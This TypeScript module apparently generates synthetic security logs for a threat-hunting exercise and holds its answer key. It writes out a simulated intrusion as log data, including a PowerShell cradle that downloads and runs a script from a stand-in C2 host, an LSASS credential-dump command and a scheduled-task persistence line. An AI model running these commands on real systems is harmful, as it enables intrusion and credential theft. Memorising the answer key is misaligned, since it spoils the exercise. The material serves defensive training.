/**
 * The planted intrusion and its answer key. `ANSWER_KEY` is the single source of truth:
 * the generator plants exactly what it says (times, addresses, counts), ANSWERS.md is
 * rendered from it, and the tests check the data against it.
 *
 * @module
 */
import { binary, encodePowerShell, IMAGES } from "./_catalog.ts";
import { at, iso, MINUTE, SECOND } from "./_clock.ts";
import { PLACES } from "./_geo.ts";
import {
  auditRow,
  byUser,
  identityRow,
  officeRow,
  type SignIn,
  signinRow,
  UNKNOWN_DEVICE,
} from "./_identity.ts";
import { alertRow, PRODUCTS } from "./_intel.ts";
import { dnsRow, firewallRow } from "./_network.ts";
import {
  type Host,
  ORG,
  type Organisation,
  RDP_FORWARD,
  type User,
  USERS_PER_SCALE,
} from "./_org.ts";
import { Prng } from "./_prng.ts";
import { securityInfoRegistered } from "./_benign_identity.ts";
import type { Row } from "./_table.ts";
import {
  type Account,
  adminAccount,
  deviceNetworkEvent,
  deviceProcessEvent,
  domainAuthEvent,
  groupMemberAddedEvent,
  localAccount,
  logoffEvent,
  logonEvent,
  processEvent,
  type ProcessStart,
  serviceInstallEvents,
  shareAccessEvent,
  specialPrivilegesEvent,
  systemAccount,
  userAccount,
  userCreatedEvent,
} from "./_windows.ts";

const DOMAIN = ORG.domain;
const C2_DOMAIN = "cdn.edgeupdate-sync.example";
const C2_IP = "198.51.100.160";
const C2_URL = `https://${C2_DOMAIN}/a/u.ps1`;
const IMPLANT_PATH = "C:\\ProgramData\\EdgeUpdate\\msedgeupdate.exe";
const SERVICE_PATH = "C:\\Windows\\Temp\\wsh.exe";
const PROCDUMP_PATH = "C:\\Users\\Public\\procdump64.exe";
const RCLONE_PATH = "C:\\ProgramData\\rclone.exe";
const CRADLE =
  `$u='${C2_URL}';$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','Microsoft-CryptoAPI/10.0');` +
  `IEX $w.DownloadString($u)`;
const ENCODED = encodePowerShell(CRADLE);
const ENCODED_COMMAND = `"${IMAGES.powershell}" -NoP -NonI -W Hidden -EncodedCommand ${ENCODED}`;
const LSASS_COMMAND = `${PROCDUMP_PATH} -accepteula -ma lsass.exe C:\\Users\\Public\\lsass.dmp`;

const T = {
  sprayRound1: at(2026, 3, 11, 2, 10, 0),
  sprayRound2: at(2026, 3, 11, 2, 45, 0),
  spraySuccess: at(2026, 3, 11, 3, 47, 29),
  imapAccess: at(2026, 3, 11, 3, 49, 2),
  sprayAlert: at(2026, 3, 11, 5, 12, 44),
  riskRaised: at(2026, 3, 11, 5, 15, 0),
  attackerInterrupt: at(2026, 3, 11, 9, 21, 44),
  mfaStarted: at(2026, 3, 11, 9, 23, 12),
  mfaRegistered: at(2026, 3, 11, 9, 24, 31),
  attackerSignin: at(2026, 3, 11, 9, 26, 10),
  inboxRule: at(2026, 3, 11, 9, 31, 2),
  identityUpdate: at(2026, 3, 11, 9, 40, 0),
  inboxAlert: at(2026, 3, 11, 9, 58, 20),
  rdpLogon: at(2026, 3, 12, 1, 47, 13),
  encodedPowerShell: at(2026, 3, 12, 1, 52, 8),
  implantStart: at(2026, 3, 12, 1, 52, 41),
  persistence: at(2026, 3, 12, 1, 53, 30),
  powershellAlert: at(2026, 3, 12, 1, 53, 40),
  firstBeacon: at(2026, 3, 12, 1, 55, 2),
  discovery: at(2026, 3, 12, 2, 3, 15),
  elevatedShell: at(2026, 3, 12, 2, 16, 40),
  lsassDump: at(2026, 3, 12, 2, 18, 55),
  lsassAlert: at(2026, 3, 12, 2, 19, 31),
  dumpDeleted: at(2026, 3, 12, 2, 27, 10),
  localUser: at(2026, 3, 12, 2, 41, 17),
  localGroup: at(2026, 3, 12, 2, 41, 39),
  passTheHash: at(2026, 3, 12, 3, 5, 26),
  fileServerLogon: at(2026, 3, 12, 3, 5, 42),
  serviceInstall: at(2026, 3, 12, 3, 5, 59),
  serviceStart: at(2026, 3, 12, 3, 6, 5),
  rdpLogoff: at(2026, 3, 12, 3, 31, 5),
  tunnelStart: at(2026, 3, 13, 0, 32, 0),
  staging: at(2026, 3, 13, 3, 2, 10),
  exfilTool: at(2026, 3, 13, 3, 14, 55),
  exfilStart: at(2026, 3, 13, 3, 15, 2),
} as const;

/** The intrusion's timeline in microseconds, for the tables that echo it (`_traces.ts`). */
export const ATTACK_TIMES = T;

const BEACONS = 2160;
const TUNNEL_QUERIES = 1100;
const EXFIL_SESSIONS = 48;
const EXFIL_BYTES = 2_684_354_560;
const DUMP_BYTES = 48_234_112;
const SPRAY_IPS = ["203.0.113.61", "203.0.113.88", "203.0.113.45"] as const;
const SPRAY_EXISTING = 150;
const GUESSED = [
  "admin",
  "administrator",
  "test",
  "scanner",
  "info",
  "it.support",
  "helpdesk",
  "reception",
  "finance",
];
const LEAVERS = ["paul.fenwick", "anna.kowalski", "steve.dunn"];
const SPRAY_TARGETS = SPRAY_EXISTING + LEAVERS.length + GUESSED.length;

/** Exfil session k: eight parallel transfers, six waves. Returns [start, end] offsets in µs. */
function exfilWindow(k: number): readonly [number, number] {
  const start = Math.floor(k / 8) * 500 * SECOND + (k % 8) * 3 * SECOND;
  return [start, start + (480 + (k % 8) * 5) * SECOND];
}

const IMPLANT = binary(IMPLANT_PATH);
const SERVICE_BINARY = binary(SERVICE_PATH);

/**
 * What was planted, when, where, and how to find it. Times are ISO 8601 UTC.
 */
export const ANSWER_KEY = {
  organisation: { name: ORG.name, domain: DOMAIN, netbios: ORG.netbios },
  victim: {
    upn: `daniel.reyes@${DOMAIN}`,
    displayName: "Daniel Reyes",
    department: "Finance",
    workstation: "LKS-WS-1042",
    workstationFqdn: `lks-ws-1042.${ORG.adDomain}`,
    workstationIp: "10.20.4.42",
    officeIp: ORG.egress.london,
    homeCountry: "GB",
    mfaRegisteredBefore: false,
  },
  stolenAdmin: {
    account: "LARKSPUR\\adm-tom.harper",
    sam: "adm-tom.harper",
    owner: `tom.harper@${DOMAIN}`,
    exposedAt: iso(at(2026, 3, 9, 14, 5, 12)),
    exposure: "helpdesk RDP session from LKS-JUMP01 (10.10.1.70) to LKS-WS-1042 on 9 March " +
      "left the admin's credentials in LSASS",
  },
  attacker: {
    ip: "203.0.113.45",
    country: "BR",
    city: "Sao Paulo",
    asn: "64496",
    sprayUserAgent: "BAV2ROPC",
  },
  spray: {
    ips: SPRAY_IPS,
    start: iso(T.sprayRound1),
    end: iso(T.spraySuccess),
    clientApp: "IMAP4",
    attempts: 3 * SPRAY_TARGETS,
    targets: SPRAY_TARGETS,
    existingTargets: SPRAY_EXISTING + LEAVERS.length,
    failures50126: 3 * SPRAY_EXISTING - 1,
    disabled50057: 3 * LEAVERS.length,
    unknown50034: 3 * GUESSED.length,
    successes: 1,
  },
  legacySuccess: {
    time: iso(T.spraySuccess),
    ip: "203.0.113.45",
    clientApp: "IMAP4",
    resultType: "0",
    authenticationRequirement: "singleFactorAuthentication",
    conditionalAccessStatus: "notApplied",
    reportOnlyPolicy: "CA002: Block legacy authentication",
  },
  impossibleTravel: {
    victimIp: ORG.egress.london,
    victimCountry: "GB",
    interruptTime: iso(T.attackerInterrupt),
    interruptResultType: "50079",
    successTime: iso(T.attackerSignin),
    ip: "203.0.113.45",
    country: "BR",
    app: "OfficeHome",
  },
  mfaRegistration: {
    time: iso(T.mfaRegistered),
    activity: "User registered security info",
    method: "Microsoft Authenticator App",
    ip: "203.0.113.45",
  },
  inboxRule: {
    time: iso(T.inboxRule),
    operation: "New-InboxRule",
    name: ".",
    forwardTo: "ap.remit.archive@securemail-relay.example",
    keywords: "invoice;payment;remittance;bank details",
    clientIp: "203.0.113.45:50412",
  },
  rdp: {
    time: iso(T.rdpLogon),
    logoff: iso(T.rdpLogoff),
    host: "LKS-WS-1042",
    ip: "203.0.113.45",
    eventId: 4624,
    logonType: 10,
    publicAddress: `${RDP_FORWARD.publicIp}:${RDP_FORWARD.publicPort}`,
    firewallRule: RDP_FORWARD.rule,
  },
  encodedPowerShell: {
    time: iso(T.encodedPowerShell),
    host: "LKS-WS-1042",
    commandLine: ENCODED_COMMAND,
    encoded: ENCODED,
    decoded: CRADLE,
    url: C2_URL,
  },
  implant: {
    path: IMPLANT_PATH,
    fileName: "msedgeupdate.exe",
    sha256: IMPLANT.sha256,
    startedAt: iso(T.implantStart),
    scheduledTask: "MicrosoftEdgeUpdateTaskMachineUA-S2",
  },
  c2: {
    domain: C2_DOMAIN,
    ip: C2_IP,
    port: 443,
    firstBeacon: iso(T.firstBeacon),
    beacons: BEACONS,
    intervalSeconds: 60,
    jitterPercent: 10,
    approximateHours: 36,
    dumpUploadBytes: DUMP_BYTES,
  },
  discovery: {
    time: iso(T.discovery),
    commands: [
      "whoami /all",
      'net group "domain admins" /domain',
      `nltest /dclist:${ORG.adDomain}`,
    ],
  },
  lsassDump: {
    time: iso(T.lsassDump),
    commandLine: LSASS_COMMAND,
    tool: "procdump64.exe",
    dumpPath: "C:\\Users\\Public\\lsass.dmp",
  },
  localAdmin: {
    host: "LKS-WS-1042",
    account: "svc-helpdesk",
    createdAt: iso(T.localUser),
    addedAt: iso(T.localGroup),
    group: "Administrators",
  },
  lateralMovement: {
    passTheHashAt: iso(T.passTheHash),
    time: iso(T.fileServerLogon),
    from: "LKS-WS-1042",
    fromIp: "10.20.4.42",
    to: "LKS-FS01",
    toIp: "10.10.1.20",
    account: "adm-tom.harper",
    logonType: 3,
    authentication: "NTLM",
    serviceName: "WinSysHealth",
    serviceFile: SERVICE_PATH,
    serviceInstalledAt: iso(T.serviceInstall),
    serviceSha256: SERVICE_BINARY.sha256,
  },
  dnsTunnel: {
    domain: "datapipe-metrics.example",
    suffix: "dx.datapipe-metrics.example",
    start: iso(T.tunnelStart),
    queries: TUNNEL_QUERIES,
    clientIp: "10.20.4.42",
    queryType: "TXT",
    labelLength: 52,
  },
  exfiltration: {
    host: "LKS-FS01",
    sourceIp: "10.10.1.20",
    stagingAt: iso(T.staging),
    archive: "C:\\ProgramData\\fsdata.7z",
    tool: "rclone.exe",
    toolPath: RCLONE_PATH,
    domain: "files.quickdrop-share.example",
    ip: "198.51.100.199",
    start: iso(T.exfilStart),
    end: iso(T.exfilStart + exfilWindow(EXFIL_SESSIONS - 1)[1]),
    sessions: EXFIL_SESSIONS,
    totalBytes: EXFIL_BYTES,
  },
  alerts: [
    {
      stage: "spray",
      name: "Password Spray",
      product: PRODUCTS.identityProtection.product,
      time: iso(T.sprayAlert),
    },
    {
      stage: "inboxRule",
      name: "Suspicious inbox forwarding",
      product: PRODUCTS.cloudApps.product,
      time: iso(T.inboxAlert),
    },
    {
      stage: "encodedPowerShell",
      name: "Suspicious PowerShell command line",
      product: PRODUCTS.defenderEndpoint.product,
      time: iso(T.powershellAlert),
    },
    {
      stage: "lsassDump",
      name: "Sensitive credential memory read",
      product: PRODUCTS.defenderEndpoint.product,
      time: iso(T.lsassAlert),
    },
  ],
  indicators: [
    {
      type: "ipv4",
      value: "203.0.113.45",
      role: "attacker: spray round 3, sign-ins, RDP",
      inStixFeed: false,
      inWorkspaceTi: false,
    },
    {
      type: "ipv4",
      value: "203.0.113.61",
      role: "password spray round 1",
      inStixFeed: true,
      inWorkspaceTi: true,
    },
    {
      type: "ipv4",
      value: "203.0.113.88",
      role: "password spray round 2",
      inStixFeed: false,
      inWorkspaceTi: true,
    },
    {
      type: "domain",
      value: C2_DOMAIN,
      role: "C2 and download cradle",
      inStixFeed: true,
      inWorkspaceTi: false,
    },
    { type: "ipv4", value: C2_IP, role: "C2 server", inStixFeed: true, inWorkspaceTi: false },
    {
      type: "sha256",
      value: IMPLANT.sha256,
      role: "implant msedgeupdate.exe",
      inStixFeed: true,
      inWorkspaceTi: false,
    },
    {
      type: "sha256",
      value: SERVICE_BINARY.sha256,
      role: "service binary wsh.exe on LKS-FS01",
      inStixFeed: false,
      inWorkspaceTi: false,
    },
    {
      type: "domain",
      value: "datapipe-metrics.example",
      role: "DNS tunnelling",
      inStixFeed: false,
      inWorkspaceTi: true,
    },
    {
      type: "domain",
      value: "files.quickdrop-share.example",
      role: "exfiltration endpoint",
      inStixFeed: false,
      inWorkspaceTi: false,
    },
    {
      type: "ipv4",
      value: "198.51.100.199",
      role: "exfiltration endpoint",
      inStixFeed: false,
      inWorkspaceTi: false,
    },
    {
      type: "email",
      value: "ap.remit.archive@securemail-relay.example",
      role: "inbox rule forwarding address",
      inStixFeed: true,
      inWorkspaceTi: false,
    },
  ],
} as const;

/** The attacker-facing places, by source address. */
const SPRAY_PLACES = {
  "203.0.113.61": [PLACES.bucharest, "64497"],
  "203.0.113.88": [PLACES.amsterdam, "64498"],
  "203.0.113.45": [PLACES.saoPaulo, "64496"],
} as const;

const CHROME_UA =
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) " +
  "Chrome/122.0.0.0 Safari/537.36";

const ATTACKER_DEVICE = Object.freeze({
  ...UNKNOWN_DEVICE,
  operatingSystem: "Windows10",
  browser: "Chrome 122.0.0",
});

/** Rows the intrusion adds, by table name. */
export type AttackRows = Map<string, Row[]>;

/** Plants the intrusion in `org` and returns its rows, table by table. */
export function attackRows(org: Organisation, seed: string): AttackRows {
  const rows: AttackRows = new Map();
  const add = (table: string, row: Row) => {
    let list = rows.get(table);
    if (!list) rows.set(table, list = []);
    list.push(row);
  };
  const rng = new Prng(`${seed}/attack`);
  const victim = org.byUpn.get(ANSWER_KEY.victim.upn)!;
  const ws = org.byHost.get(ANSWER_KEY.victim.workstation)!;
  const fs = org.byHost.get("LKS-FS01")!;
  const dc = org.byHost.get("LKS-DC01")!;
  const tom = org.byUpn.get(ANSWER_KEY.stolenAdmin.owner)!;
  const jump = org.byHost.get("LKS-JUMP01")!;
  const ctx: AttackContext = { org, rng, add, victim, ws, fs, dc, tom, jump };
  plantCredentialExposure(ctx);
  plantSpray(ctx);
  plantCloudTakeover(ctx);
  const implant = plantEndpoint(ctx);
  plantBeacons(ctx, implant);
  const service = plantLateralMovement(ctx, implant);
  plantDnsTunnel(ctx);
  plantExfiltration(ctx, service);
  plantAlerts(ctx);
  return rows;
}

interface AttackContext {
  readonly org: Organisation;
  readonly rng: Prng;
  readonly add: (table: string, row: Row) => void;
  readonly victim: User;
  readonly ws: Host;
  readonly fs: Host;
  readonly dc: Host;
  readonly tom: User;
  readonly jump: Host;
}

/** Emits a process start to SecurityEvent (4688) and DeviceProcessEvents. */
function processBoth(ctx: AttackContext, p: ProcessStart): ProcessStart {
  ctx.add("SecurityEvent", processEvent(p));
  ctx.add("DeviceProcessEvents", deviceProcessEvent(p, 9_000_000 + ctx.rng.range(0, 99_999)));
  return p;
}

/** 9 March: the admin's helpdesk session that leaves credentials on the workstation. */
function plantCredentialExposure(ctx: AttackContext): void {
  const { ws, tom, jump, rng } = ctx;
  const account = adminAccount(tom);
  const start = at(2026, 3, 9, 14, 5, 12);
  const end = at(2026, 3, 9, 14, 31, 48);
  const id = 0x7a31c2;
  ctx.add(
    "SecurityEvent",
    logonEvent({
      time: start,
      host: ws,
      account,
      logonType: 10,
      logonId: id,
      ip: jump.ip,
      port: 50122,
      auth: "Negotiate",
    }),
  );
  ctx.add("SecurityEvent", specialPrivilegesEvent(start + 15, ws, account, id));
  ctx.add("SecurityEvent", logoffEvent(end, ws, account, 10, id));
  const explorer = 0x2d14;
  const parent = {
    parentImage: IMAGES.explorer,
    parentCommand: IMAGES.explorer,
    parentPid: explorer,
    parentTime: start + 4 * SECOND,
    parentAccount: account,
    grandparentImage: IMAGES.userinit,
    grandparentPid: 0x2c40,
    grandparentTime: start + 2 * SECOND,
  };
  processBoth(ctx, {
    time: start + 3 * MINUTE,
    host: ws,
    image: "C:\\Windows\\System32\\pnputil.exe",
    command: "pnputil.exe /add-driver \\\\lks-print01\\drivers$\\hp\\hpcu270u.inf /install",
    pid: 4 * rng.range(300, 8000),
    account,
    logonId: id,
    integrity: "High",
    elevation: "Full",
    ...parent,
  });
  processBoth(ctx, {
    time: start + 9 * MINUTE,
    host: ws,
    image: IMAGES.cmd,
    command: `"${IMAGES.cmd}" /c net stop spooler && net start spooler`,
    pid: 4 * rng.range(300, 8000),
    account,
    logonId: id,
    integrity: "High",
    elevation: "Full",
    ...parent,
  });
}

/** 11 March 02:10-03:47: three rounds of IMAP password spraying, ending in one success. */
function plantSpray(ctx: AttackContext): void {
  const rng = ctx.rng.fork("spray");
  const eligible = ctx.org.users.filter((u) =>
    u.index < USERS_PER_SCALE && u.enabled && u.legacyClient === null && u !== ctx.victim
  );
  const existing = [...rng.shuffle(eligible).slice(0, SPRAY_EXISTING - 1), ctx.victim];
  const leavers = LEAVERS.map((sam) => ctx.org.byUpn.get(`${sam}@${DOMAIN}`)!);
  const targets: Array<{ upn: string; user: User | null; result: string }> = rng.shuffle([
    ...existing.filter((u) => u !== ctx.victim).map((u) => ({
      upn: u.upn,
      user: u,
      result: "50126",
    })),
    ...leavers.map((u) => ({ upn: u.upn, user: u, result: "50057" })),
    ...GUESSED.map((g) => ({ upn: `${g}@${DOMAIN}`, user: null, result: "50034" })),
  ]);
  targets.push({ upn: ctx.victim.upn, user: ctx.victim, result: "50126" });
  const n = targets.length;
  for (let round = 0; round < 3; round++) {
    const ip = SPRAY_IPS[round];
    const [place, asn] = SPRAY_PLACES[ip];
    for (let i = 0; i < n; i++) {
      const time = round < 2
        ? (round === 0 ? T.sprayRound1 : T.sprayRound2) + i * 10 * SECOND +
          (i === 0 ? 0 : rng.int(2_500_000))
        : T.spraySuccess - (n - 1 - i) * 10 * SECOND - (i === n - 1 ? 0 : rng.int(2_500_000));
      const t = targets[i];
      const success = round === 2 && i === n - 1;
      const s: SignIn = {
        time,
        upn: t.upn,
        user: t.user,
        app: {
          name: "Office 365 Exchange Online",
          appId: "00000002-0000-0ff1-ce00-000000000000",
          resource: "Office 365 Exchange Online",
          resourceId: "00000002-0000-0ff1-ce00-000000000000",
        },
        ip,
        place,
        asn,
        clientApp: "IMAP4",
        resultType: success ? "0" : t.result,
        mfa: "none",
        device: UNKNOWN_DEVICE,
        userAgent: ANSWER_KEY.attacker.sprayUserAgent,
        interactive: true,
        namedLocation: null,
        correlationId: rng.guid(),
        id: rng.guid(),
      };
      ctx.add("SigninLogs", signinRow(s));
    }
  }
  // With the password, the attacker reads the mailbox over IMAP straight away.
  for (let i = 0; i < 6; i++) {
    ctx.add(
      "OfficeActivity",
      officeRow({
        time: T.imapAccess + i * 37 * SECOND,
        user: ctx.victim,
        operation: "MailItemsAccessed",
        workload: "Exchange",
        recordType: "ExchangeItemAggregated",
        clientIp: "203.0.113.45",
        officeId: rng.guid(),
        clientInfo: "Client=IMAP4",
      }),
    );
  }
}

/** 11 March 09:21-09:31: browser sign-in from Brazil, MFA registration, forwarding rule. */
function plantCloudTakeover(ctx: AttackContext): void {
  const rng = ctx.rng.fork("cloud");
  attackerSignins(ctx, rng);
  registerAttackerMfa(ctx, rng);
  readMailAndAddInboxRule(ctx, rng);
}

/** The app the attacker signs in to first (Microsoft 365's home page). */
const OFFICE_HOME = {
  name: "OfficeHome",
  appId: "4765445b-32c6-49b0-83e6-1d93765276ca",
  resource: "Office 365 Exchange Online",
  resourceId: "00000002-0000-0ff1-ce00-000000000000",
};

/** The attacker's sign-ins: an MFA interrupt, then in with a push approval, then Outlook on the web. */
function attackerSignins(ctx: AttackContext, rng: Prng): void {
  const victim = ctx.victim;
  const [place, asn] = SPRAY_PLACES["203.0.113.45"];
  const officeHome = OFFICE_HOME;
  const base = {
    upn: victim.upn,
    user: victim,
    ip: "203.0.113.45",
    place,
    asn,
    clientApp: "Browser" as const,
    device: ATTACKER_DEVICE,
    userAgent: CHROME_UA,
    interactive: true,
    namedLocation: null,
  };
  ctx.add(
    "SigninLogs",
    signinRow({
      ...base,
      time: T.attackerInterrupt,
      app: officeHome,
      resultType: "50079",
      mfa: "none",
      correlationId: rng.guid(),
      id: rng.guid(),
    }),
  );
  ctx.add(
    "SigninLogs",
    signinRow({
      ...base,
      time: T.attackerSignin,
      app: officeHome,
      resultType: "0",
      mfa: "Mobile app notification",
      correlationId: rng.guid(),
      id: rng.guid(),
    }),
  );
  ctx.add(
    "SigninLogs",
    signinRow({
      ...base,
      time: T.attackerSignin + 94 * SECOND,
      app: {
        name: "One Outlook Web",
        appId: "9199bf20-a13f-4107-85dc-02114787ef48",
        resource: "Office 365 Exchange Online",
        resourceId: "00000002-0000-0ff1-ce00-000000000000",
      },
      resultType: "0",
      mfa: "Previously satisfied",
      correlationId: rng.guid(),
      id: rng.guid(),
    }),
  );
}

/** The attacker registers an authenticator of their own; the victim's risk rises. */
function registerAttackerMfa(ctx: AttackContext, rng: Prng): void {
  const victim = ctx.victim;
  ctx.add(
    "AuditLogs",
    auditRow({
      time: T.mfaStarted,
      activity: "User started security info registration",
      category: "UserManagement",
      service: "Authentication Methods",
      operationType: "Other",
      initiatedBy: byUser(victim, "203.0.113.45"),
      target: {
        id: victim.objectId,
        type: "User",
        name: victim.display,
        upn: victim.upn,
        modified: [],
      },
      details: [["TenantId", ORG.aadTenantId]],
      correlationId: rng.guid(),
      idSuffix: `${rng.hex(5).toUpperCase()}_${rng.range(10000000, 99999999)}`,
    }),
  );
  // The same two AuditLogs rows an ordinary user's registration makes.
  securityInfoRegistered(
    (row) => ctx.add("AuditLogs", row),
    rng,
    victim,
    T.mfaRegistered,
    ANSWER_KEY.mfaRegistration.ip,
    ANSWER_KEY.mfaRegistration.method,
  );
  const groups = ["All Staff", "SG-Finance", ...(victim.mobile ? ["SG-Mobile-Users"] : [])];
  ctx.add(
    "IdentityInfo",
    identityRow(victim, { time: T.riskRaised, groups, roles: [], riskLevel: "Medium" }),
  );
  ctx.add(
    "IdentityInfo",
    identityRow(victim, {
      time: T.identityUpdate,
      groups,
      roles: [],
      riskLevel: "Medium",
      mfaRegistered: true,
    }),
  );
}

/** The attacker reads mail in OWA and adds an inbox rule forwarding finance mail. */
function readMailAndAddInboxRule(ctx: AttackContext, rng: Prng): void {
  const victim = ctx.victim;
  const officeHome = OFFICE_HOME;
  ctx.add(
    "OfficeActivity",
    officeRow({
      time: T.attackerSignin + 1 * SECOND,
      user: victim,
      operation: "UserLoggedIn",
      workload: "AzureActiveDirectory",
      recordType: "AzureActiveDirectoryStsLogon",
      clientIp: "203.0.113.45",
      officeId: rng.guid(),
      objectId: officeHome.appId,
      userAgent: CHROME_UA,
      resultStatus: "Success",
    }),
  );
  for (let i = 0; i < 4; i++) {
    ctx.add(
      "OfficeActivity",
      officeRow({
        time: T.attackerSignin + (2 * 60 + i * 41) * SECOND,
        user: victim,
        operation: "MailItemsAccessed",
        workload: "Exchange",
        recordType: "ExchangeItemAggregated",
        clientIp: "203.0.113.45",
        officeId: rng.guid(),
        clientInfo: `Client=OWA;${CHROME_UA}`,
      }),
    );
  }
  ctx.add(
    "OfficeActivity",
    officeRow({
      time: T.inboxRule,
      user: victim,
      operation: ANSWER_KEY.inboxRule.operation,
      workload: "Exchange",
      recordType: "ExchangeAdmin",
      clientIp: ANSWER_KEY.inboxRule.clientIp,
      officeId: rng.guid(),
      objectId: `${victim.upn}\\${ANSWER_KEY.inboxRule.name}`,
      parameters: [
        ["AlwaysDeleteOutlookRulesBlob", "False"],
        ["Force", "False"],
        ["Name", ANSWER_KEY.inboxRule.name],
        ["ForwardTo", ANSWER_KEY.inboxRule.forwardTo],
        ["SubjectOrBodyContainsWords", ANSWER_KEY.inboxRule.keywords],
        ["MarkAsRead", "True"],
        ["StopProcessingRules", "True"],
      ],
      clientInfo: "Client=OWA;Action=ViaProxy",
    }),
  );
}

interface Proc {
  readonly image: string;
  readonly command: string;
  readonly pid: number;
  readonly time: number;
  readonly account: Account;
}

function child(
  ctx: AttackContext,
  host: Host,
  time: number,
  image: string,
  command: string,
  parent: Proc,
  grandparent: Proc,
  logonId: number,
  elevated: boolean,
  file?: ReturnType<typeof binary>,
  as: Account = parent.account,
): Proc {
  const pid = 4 * ctx.rng.range(300, 9000);
  const system = as.fixedLogonId === 0x3e7;
  processBoth(ctx, {
    time,
    host,
    image,
    command,
    pid,
    account: as,
    logonId,
    integrity: system ? "System" : elevated ? "High" : "Medium",
    elevation: system ? "Default" : elevated ? "Full" : "Limited",
    parentImage: parent.image,
    parentCommand: parent.command,
    parentPid: parent.pid,
    parentTime: parent.time,
    parentAccount: parent.account,
    grandparentImage: grandparent.image,
    grandparentPid: grandparent.pid,
    grandparentTime: grandparent.time,
    file,
  });
  return { image, command, pid, time, account: as };
}

const SESSION_LOGON = 0x9c41e7;

/**
 * 12 March 01:47-03:31: RDP in through the port forward, cradle, implant, LSASS, local
 * admin. Returns the implant process.
 */
function plantEndpoint(ctx: AttackContext): Proc {
  const { account, userinit, explorer } = rdpSession(ctx);
  const { ps, implant } = plantImplant(ctx, account, userinit, explorer);
  discoverFromImplant(ctx, implant, ps);
  dumpCredentialsAndAddAdmin(ctx, account, userinit, explorer);
  return implant;
}

/** The RDP session through the port forward, up to the user's desktop (explorer). */
function rdpSession(ctx: AttackContext): { account: Account; userinit: Proc; explorer: Proc } {
  const { ws, victim } = ctx;
  const account = userAccount(victim);
  ctx.add(
    "CommonSecurityLog",
    firewallRow({
      time: T.rdpLogoff + 2 * SECOND,
      srcIp: "203.0.113.45",
      srcPort: 51844,
      dstIp: RDP_FORWARD.publicIp,
      dstPort: RDP_FORWARD.publicPort,
      natDst: [ws.ip, 3389],
      protocol: "TCP",
      app: "ms-rdp",
      action: "allow",
      rule: RDP_FORWARD.rule,
      srcZone: "untrust",
      dstZone: "trust",
      sent: 18_442_210,
      received: 241_907_554,
      sessionId: 1_999_001,
      country: "BR",
      endReason: "tcp-fin",
    }),
  );
  ctx.add(
    "SecurityEvent",
    logonEvent({
      time: T.rdpLogon,
      host: ws,
      account,
      logonType: 10,
      logonId: SESSION_LOGON,
      ip: "203.0.113.45",
      port: 51844,
      auth: "Negotiate",
      workstation: "DESKTOP-R7KQ2LM",
    }),
  );
  ctx.add("SecurityEvent", specialPrivilegesEvent(T.rdpLogon + 15, ws, account, SESSION_LOGON));
  ctx.add("SecurityEvent", logoffEvent(T.rdpLogoff, ws, account, 10, SESSION_LOGON));
  const winlogon: Proc = {
    image: IMAGES.winlogon,
    command: "winlogon.exe",
    pid: 0x1f30,
    time: T.rdpLogon - 3 * SECOND,
    account: systemAccount(ws),
  };
  const userinit = child(
    ctx,
    ws,
    T.rdpLogon + 2 * SECOND,
    IMAGES.userinit,
    IMAGES.userinit,
    winlogon,
    winlogon,
    SESSION_LOGON,
    false,
    undefined,
    account,
  );
  const explorer = child(
    ctx,
    ws,
    T.rdpLogon + 4 * SECOND,
    IMAGES.explorer,
    IMAGES.explorer,
    userinit,
    winlogon,
    SESSION_LOGON,
    false,
  );
  return { account, userinit, explorer };
}

/** The encoded PowerShell cradle, its C2 beacon, the implant and its scheduled task. */
function plantImplant(
  ctx: AttackContext,
  account: Account,
  userinit: Proc,
  explorer: Proc,
): { ps: Proc; implant: Proc } {
  const { ws } = ctx;
  const ps = child(
    ctx,
    ws,
    T.encodedPowerShell,
    IMAGES.powershell,
    ENCODED_COMMAND,
    explorer,
    userinit,
    SESSION_LOGON,
    false,
  );
  flow(
    ctx,
    ws,
    T.encodedPowerShell + 2 * SECOND,
    C2_IP,
    443,
    C2_DOMAIN,
    ps,
    account,
    1_204,
    388_112,
    "NL",
  );
  dnsLookup(ctx, T.encodedPowerShell + 1 * SECOND, ws.ip, C2_DOMAIN, [C2_IP]);
  const implant = child(
    ctx,
    ws,
    T.implantStart,
    IMPLANT_PATH,
    `"${IMPLANT_PATH}" /svc`,
    ps,
    explorer,
    SESSION_LOGON,
    false,
    IMPLANT,
  );
  child(
    ctx,
    ws,
    T.persistence,
    IMAGES.schtasks,
    `"${IMAGES.schtasks}" /Create /F /SC ONLOGON /RL HIGHEST /TN "${ANSWER_KEY.implant.scheduledTask}" /TR "${IMPLANT_PATH} /svc"`,
    ps,
    explorer,
    SESSION_LOGON,
    false,
  );
  return { ps, implant };
}

/** Discovery from a shell the implant spawns. */
function discoverFromImplant(ctx: AttackContext, implant: Proc, ps: Proc): void {
  const { ws } = ctx;
  const shell = child(
    ctx,
    ws,
    T.discovery,
    IMAGES.cmd,
    `"${IMAGES.cmd}" /Q /c whoami /all & net group "domain admins" /domain & nltest /dclist:${ORG.adDomain}`,
    implant,
    ps,
    SESSION_LOGON,
    false,
  );
  child(
    ctx,
    ws,
    T.discovery + 1 * SECOND,
    IMAGES.whoami,
    "whoami  /all",
    shell,
    implant,
    SESSION_LOGON,
    false,
  );
  const net = child(
    ctx,
    ws,
    T.discovery + 2 * SECOND,
    IMAGES.net,
    'net  group "domain admins" /domain',
    shell,
    implant,
    SESSION_LOGON,
    false,
  );
  child(
    ctx,
    ws,
    T.discovery + 2 * SECOND + 80_000,
    IMAGES.net1,
    'C:\\Windows\\system32\\net1  group "domain admins" /domain',
    net,
    shell,
    SESSION_LOGON,
    false,
  );
  child(
    ctx,
    ws,
    T.discovery + 4 * SECOND,
    IMAGES.nltest,
    `nltest  /dclist:${ORG.adDomain}`,
    shell,
    implant,
    SESSION_LOGON,
    false,
  );
}

/** An elevated shell from the RDP session, the LSASS dump, and a local administrator. */
function dumpCredentialsAndAddAdmin(
  ctx: AttackContext,
  account: Account,
  userinit: Proc,
  explorer: Proc,
): void {
  const { ws } = ctx;
  // An elevated shell from the RDP session, then the LSASS dump.
  const elevatedId = SESSION_LOGON + 0x2a;
  const admin = child(
    ctx,
    ws,
    T.elevatedShell,
    IMAGES.cmd,
    `"${IMAGES.cmd}"`,
    explorer,
    userinit,
    elevatedId,
    true,
  );
  child(ctx, ws, T.lsassDump, PROCDUMP_PATH, LSASS_COMMAND, admin, explorer, elevatedId, true);
  child(
    ctx,
    ws,
    T.dumpDeleted,
    IMAGES.cmd,
